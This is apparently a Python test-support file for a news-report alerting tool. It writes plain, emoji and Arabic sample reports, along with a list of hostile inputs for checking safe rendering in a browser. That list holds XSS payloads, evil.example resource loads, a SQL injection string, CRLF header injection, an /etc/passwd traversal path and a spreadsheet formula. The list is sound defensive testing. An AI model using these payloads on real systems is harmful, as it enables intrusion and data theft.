"""Reports for tests in the browser: plain ones, one with emoji and right-to-left text, and hostile ones."""

from __future__ import annotations

import json
import time
from dataclasses import dataclass, replace

from tests.support import small_stages

from dateline.alerting import read_alert_file

RAID = "Rebels attacked Baghdad, killing {}.\n\nPolice in Karrada said so; Colonel Anwar Selim spoke of two cars.\n"

PLAIN = (
    ("raid", "The Desk", "2024-03-02", RAID.format(12)),
    ("raid-later", "Evening Wire", "2024-03-02", RAID.format(14)),
    ("other", "The Desk", "2024-07-20", "Rebels attacked Sanaa, killing 3.\n\nNobody else was hurt.\n"),
    ("hills", "Hill News", "2024-05-04", "Gunmen attacked Erbil, killing 5.\n\nTwo were held.\n"),
    (
        "😀 emoji and العربية",
        "صحيفة 🗞️",
        "2024-06-09",
        "👩‍👩‍👧‍👦 قال شهود عيان 🎉: Militants attacked Erbil, killing 7 to 9. 😀 وقالت الشرطة ذلك.\n\nNothing 🇮🇶 more.\n",
    ),
)

RUN = "window.ran=1"
HOSTILE = (
    f"<script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f'"><svg onload={RUN}>',
    f"'-({RUN})-'",
    f"javascript:{RUN}",
    f"<a href=javascript:{RUN}>go</a>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    "<img src=https://evil.example/a.png>",
    "<link rel=stylesheet href=https://evil.example/a.css>",
    "<style>@import 'https://evil.example/b.css';</style>",
    "</title><script src=https://evil.example/c.js></script>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href=https://evil.example/>",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    "${window.ran=1}",
    "<!--<img src='--><img src=x onerror=window.ran=1>",
    "]]><x/>",
    "__proto__",
    "constructor",
    "' OR 1=1 --",
    "%00%0d%0aSet-Cookie: a=b",
    "../../../etc/passwd",
    "\u202egpj.exe",
    "\u2066\u2069\u200b\ufeff",
    "a\u0301\u0321\u0345" * 3,
    "&lt;b&gt;&#x3c;i&#x3e;",
    '=HYPERLINK("https://evil.example")',
    "x" * 300,
    "url(https://evil.example/d.png)",
    ";--s:url(https://evil.example/e.png)",
)


@dataclass(frozen=True, slots=True)
class Told(small_stages.Attacks):
    """As the small stage, with the report's title as the name of everything that an event has a name for."""

    def event(self, draft, m):
        event = small_stages.Attacks.event(self, draft, m)
        name = draft.report.title or m["who"]
        return replace(
            event,
            where=tuple(replace(one, name=name) for one in event.where),
            participants=tuple(replace(one, name=name, actor=name) for one in event.participants),
        )


def until(page, words, seconds=15):
    """Wait for an expression to be true in a page; the page's own policy forbids Playwright's way of waiting."""
    end = time.monotonic() + seconds
    while not page.evaluate(words):
        assert time.monotonic() < end, f"not so after {seconds} s: {words}"
        page.wait_for_timeout(25)


def stages(kind):
    """Return the stages that code a kind of reports."""
    return small_stages.Lines, Told if kind == "hostile" else small_stages.Attacks


RULES = """
[[alerts]]
name = "deadly"
killed = 5
severity = "severe"

[[alerts]]
name = "in Iraq"
country = ["IQ"]
actor = ["gunmen"]
"""


def raise_alerts(project, folder):
    """Follow two rules over all that a store holds, and over the rejection of what one of them told."""
    path = folder / "rules.toml"
    path.write_text(RULES, "utf-8")
    rules = read_alert_file(path)
    project.alerts.begin(rules, from_start=True)
    for _ in range(2):
        while project.alerts.follow(rules).changes:
            pass
        told = project.alerts.list(rule="in Iraq").alerts[0]
        if told.state == "active":
            project.incidents.reject(told.incident, why="a drill", by="R. Adeyemi")


def write_reports(folder, kind):
    """Write the reports of a kind into a new folder."""
    folder.mkdir()
    if kind != "hostile":
        told = [(*one, None) for one in PLAIN]
    else:
        told = [
            (
                text,
                text,
                f"2024-0{n % 9 + 1}-{n % 28 + 1:02}",
                f"Rebels attacked Sanaa, killing {n + 1}.\n\n{text}\n",
                text,
            )
            for n, text in enumerate(HOSTILE)
        ]
    lines = [
        {"title": title, "publisher": publisher, "published": day, "text": body, "url": url}
        for title, publisher, day, body, url in told
    ]
    path = folder / "reports.jsonl"
    path.write_text("".join(json.dumps(line) + "\n" for line in lines), "utf-8")
    return path
